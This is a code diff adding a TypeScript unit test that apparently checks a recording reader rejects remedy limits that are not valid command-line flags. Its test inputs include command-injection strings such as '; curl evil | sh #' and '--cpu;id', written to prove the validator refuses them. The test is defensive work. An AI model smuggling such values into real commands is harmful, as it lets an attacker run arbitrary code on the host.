@@ -5,6 +5,7 @@ import { deflateRawSync } from 'node:zlib';
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { field } from '../../src/diagnosis/fields.ts';
+import type { Finding } from '../../src/diagnosis/model.ts';
 import { dumped } from '../../src/recording/dump.ts';
 import { FormatError } from '../../src/recording/format/bytes.ts';
 import { decodeHeader } from '../../src/recording/format/decode.ts';
@@ -160,6 +161,29 @@ test('a header or text with a time that cannot be is refused', () =>
     const { frames, damage } = read(fileIn(directory, [{ ...momentAt(0), events: [event] }]));
     assert.equal(frames, [undefined]);
     assert.match(damage.join(), /^moment 0 cannot be read: a text is of another shape/);
+  }));
+
+test('a remedy whose limit is no flag is refused: a command is made of it', () =>
+  inDirectory((directory) => {
+    const findingWith = (limits: Readonly<Record<string, string>>): Finding => ({
+      workload: { path: '/web', inode: 2, name: 'web' },
+      ...{ when: BEGIN, window: 5, source: 'files', missing: [] },
+      verdicts: [
+        {
+          ...{ cause: 'disk', loss: 1, sentence: 'it waits', figures: [], suspects: [] },
+          remedies: [{ path: '/web', name: 'web', words: 'less', limits }],
+        },
+      ],
+    });
+    for (const flag of ['; curl evil | sh #', '--cpu;id', '', '--cpu --force', '--CPU', '--\u001b[2J']) {
+      const { frames, damage } = read(
+        fileIn(directory, [{ ...momentAt(0), findings: [findingWith({ [flag]: '1' })] }]),
+      );
+      assert.equal(frames, [undefined], flag);
+      assert.match(damage.join(), /^moment 0 cannot be read: a text is of another shape: a limit that is no flag/);
+    }
+    const whole = findingWith({ '--io-max': '/dev/sda rbps=1' });
+    assert.equal(read(fileIn(directory, [{ ...momentAt(0), findings: [whole] }])).frames[0]?.moment.findings, [whole]);
   }));
 
 test('get and ls of such a moment say why', () =>
